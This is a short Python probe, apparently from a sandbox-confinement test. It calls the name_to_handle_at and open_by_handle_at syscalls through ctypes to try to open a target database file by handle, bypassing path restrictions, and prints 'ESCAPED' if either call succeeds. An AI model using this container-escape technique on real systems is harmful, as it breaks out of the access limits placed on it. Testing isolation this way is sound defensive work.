# Tries to open files by handle, past all paths.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
import platform

to_handle, by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
handle = ctypes.create_string_buffer(b"\x80" + bytes(200))
for result in (
    libc.syscall(to_handle, -100, TARGETS["database"].encode(), handle, ctypes.create_string_buffer(8), 0),
    libc.syscall(by_handle, 0, handle, 0),
):
    if result >= 0:
        print("ESCAPED")
